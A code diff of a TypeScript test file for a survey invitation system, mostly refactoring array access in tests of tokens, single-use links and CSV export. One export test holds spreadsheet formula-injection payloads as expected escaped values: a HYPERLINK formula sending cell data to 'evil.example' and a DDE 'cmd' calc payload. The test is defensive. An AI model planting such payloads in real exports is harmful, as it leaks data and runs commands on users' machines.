@@ -29,6 +29,7 @@ import {
 import { freshSchool, type School, sessionOf } from "../test/fixtures";
 import { createInvitations, exportInvitationLinks, invitationToken, resolveInvitation, sendInvitations } from "./invitations";
 import { expectDomainError } from "../test/errors";
+import { at } from "@/server/shared/indexed";
 
 let db: Db;
 let s: School;
@@ -113,8 +114,8 @@ describe("createInvitations", () => {
     for (const [i, tok] of tokens.entries()) {
       expect(tok).toMatch(/^[A-Za-z0-9_-]{43}$/);
       expect(Buffer.from(tok, "base64url")).toHaveLength(32);
-      expect(inv[i].tokenHash).toBe(sha256(tok));
-      expect(Buffer.from(inv[i].nonce, "base64url").length).toBeGreaterThanOrEqual(16);
+      expect(at(inv, i).tokenHash).toBe(sha256(tok));
+      expect(Buffer.from(at(inv, i).nonce, "base64url").length).toBeGreaterThanOrEqual(16);
     }
     expect(new Set(tokens).size).toBe(tokens.length);
     expect(new Set(inv.map((i) => i.nonce)).size).toBe(inv.length);
@@ -122,7 +123,7 @@ describe("createInvitations", () => {
     for (const tok of tokens) expect(everything.includes(tok)).toBe(false);
     expect(everything.includes("/i/")).toBe(false);
     // Without the server secret the nonce gives no working link.
-    await notFound(resolveInvitation(db, invitationToken("another-secret-0123456789abcdef", inv[0].nonce), DURING));
+    await notFound(resolveInvitation(db, invitationToken("another-secret-0123456789abcdef", at(inv, 0).nonce), DURING));
   });
 });
 
@@ -138,7 +139,14 @@ describe("resolveInvitation and issueForInvitation", () => {
   });
 
   it("unknown and malformed tokens are not found", async () => {
-    for (const bad of ["", "abc", "!".repeat(43), `${tokenOf(inv[0])}A`, tokenOf(inv[0]).slice(1), randomBytes(32).toString("base64url")]) {
+    for (const bad of [
+      "",
+      "abc",
+      "!".repeat(43),
+      `${tokenOf(at(inv, 0))}A`,
+      tokenOf(at(inv, 0)).slice(1),
+      randomBytes(32).toString("base64url"),
+    ]) {
       await notFound(resolveInvitation(db, bad, DURING));
     }
   });
@@ -157,7 +165,7 @@ describe("resolveInvitation and issueForInvitation", () => {
     });
     const tok = await invitationTokenFor(db, i1.id, DURING);
     expect((await resolveInvitation(db, tokenOf(i1), DURING)).state).toBe("used");
-    expect((await db.select().from(invitations).where(eq(invitations.id, i1.id)))[0].tokenIssuedOn).toBe("2026-12-28");
+    expect((await db.select().from(invitations).where(eq(invitations.id, i1.id)))[0]?.tokenIssuedOn).toBe("2026-12-28");
     await expectDomainError(invitationTokenFor(db, i1.id, DURING), { kind: "CONFLICT", code: "respond.submit.errors.invitationUsed" });
     // Another alumnus's link is untouched.
     expect((await resolveInvitation(db, tokenOf(of(t.a2)), DURING)).state).toBe("ready");
@@ -175,7 +183,7 @@ describe("resolveInvitation and issueForInvitation", () => {
       declined: false,
     });
     // Nothing on the invitation side names the response.
-    expect(await tableText(db, "invitations")).not.toContain(rows[0].spentTokenHash);
+    expect(await tableText(db, "invitations")).not.toContain(at(rows, 0).spentTokenHash);
   });
 
   it("employer contacts' answers are stored as the employer group's with the employer instrument", async () => {
@@ -203,13 +211,13 @@ describe("resolveInvitation and issueForInvitation", () => {
     const results = await Promise.allSettled(
       attempts.map((a) => issueForInvitation(db, { invitationId: i1.id, blindedMsg: toBase64(a.blindedMsg) }, DURING, SECRET)),
     );
-    const ok = results.flatMap((r, i) => (r.status === "fulfilled" ? [{ r: r.value, a: attempts[i] }] : []));
+    const ok = results.flatMap((r, i) => (r.status === "fulfilled" ? [{ r: r.value, a: at(attempts, i) }] : []));
     expect(ok).toHaveLength(1);
     for (const r of results) {
       if (r.status === "rejected") expect(r.reason).toMatchObject({ kind: "CONFLICT", code: "respond.submit.errors.invitationUsed" });
     }
-    const { r, a } = ok[0];
-    await finalizeToken(pk, a.token, fromBase64(r.signatures[0].blindSig), a.inv); // throws unless valid
+    const { r, a } = at(ok, 0);
+    await finalizeToken(pk, a.token, fromBase64(at(r.signatures, 0).blindSig), a.inv); // throws unless valid
   });
 
   it("a bad blinded message or an unknown invitation is refused and leaves the link usable", async () => {
@@ -394,6 +402,7 @@ describe("exportInvitationLinks", () => {
     ]);
     for (const r of rows) {
       const [kind, name, , , , , link, sent, used] = r;
+      if (link === undefined) throw new Error(`a row of ${r.length} columns`);
       expect(kind).toBe("毕业生");
       const alumnus = [t.a1, t.a2, t.a3, t.a4, t.b1].find((a) => a.name === name)!;
       const i = inv.find((x) => x.alumnusId === alumnus.id)!;
@@ -403,7 +412,7 @@ describe("exportInvitationLinks", () => {
         continue;
       }
       expect(used).toBe("否");
-      const [token] = linkTokens(link);
+      const token = at(linkTokens(link), 0);
       expect(link).toBe(`${BASE_URL}/i/${token}`);
       expect(await resolveInvitation(db, token, DURING)).toMatchObject({ invitationId: i.id, state: "ready" });
     }
@@ -422,10 +431,10 @@ describe("exportInvitationLinks", () => {
     const g = await graduateCampaign(db, s);
     await createInvitations(db, g.id, SECRET);
     const rows = parseCsv((await exportInvitationLinks(db, await quality(), g.id, SECRET, BASE_URL)).slice(1));
-    const row1 = rows.find((r) => r[1].includes("HYPERLINK"))!;
+    const row1 = rows.find((r) => at(r, 1).includes("HYPERLINK"))!;
     expect(row1[1]).toBe(`'=HYPERLINK("https://evil.example/?"&A1,"点我")`);
     expect(row1[5]).toBe("'@cmd");
-    const row4 = rows.find((r) => r[1].includes("calc"))!;
+    const row4 = rows.find((r) => at(r, 1).includes("calc"))!;
     expect(row4[1]).toBe("'-2+3+cmd|' /C calc'!A0");
     expect(row4[4]).toBe("+86 138-0000-0004");
   });
